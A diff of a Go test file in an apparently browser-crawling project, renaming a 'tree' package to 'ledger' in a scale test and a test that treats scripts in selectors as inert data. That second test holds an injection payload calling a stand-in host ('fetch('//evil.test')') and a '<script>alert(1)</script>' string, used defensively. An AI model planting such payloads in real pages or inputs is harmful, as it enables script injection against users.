@@ -8,7 +8,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/memtree/memtree/appmap"
-	"github.com/memtree/memtree/tree"
+	"github.com/memtree/memtree/ledger"
 )
 
 // Of a graph with a million ways the map holds as many as it has room for, counts the rest, and answers in time.
@@ -19,12 +19,13 @@ func TestAMillionWays(t *testing.T) {
 	m := appmap.New()
 	page := func(i int) string { return fmt.Sprintf("/%c%c/p%c", 'a'+i%26, 'a'+i/26%26, 'a'+i/676%26) }
 	for i := range 2000 {
-		w := tree.Walk{Source: "a", Product: "shop"}
+		w := ledger.Walk{Source: "a", Product: "shop"}
 		for k := range 500 {
-			w.Seen = append(w.Seen, tree.Sighting{Kind: tree.SeenLink, URL: page(i), To: page((i + k + 1) % 2000), Name: "go"})
+			w.Seen = append(w.Seen, ledger.Sighting{Kind: ledger.SeenLink, URL: page(i), To: page((i + k + 1) % 2000),
+				Name: "go"})
 		}
 		w.Identify()
-		m.Add(&tree.Entry{Walk: &w})
+		m.Add(&ledger.Entry{Walk: &w})
 	}
 	c := m.Coverage("shop")
 	require.LessOrEqual(t, c.Links, appmap.MostElements)
@@ -40,7 +41,7 @@ func TestAMillionWays(t *testing.T) {
 // Selectors and names that are scripts are data: they are found as they are, and no test that is written has them.
 func TestScriptsInSelectors(t *testing.T) {
 	evil := "page.evaluate(() => fetch('//evil.test'))"
-	w := tree.Walk{Source: "a", Product: "shop"}
+	w := ledger.Walk{Source: "a", Product: "shop"}
 	for range 8 {
 		a := click("/", "button", "<script>alert(1)</script>", "/b")
 		a.Selector = evil
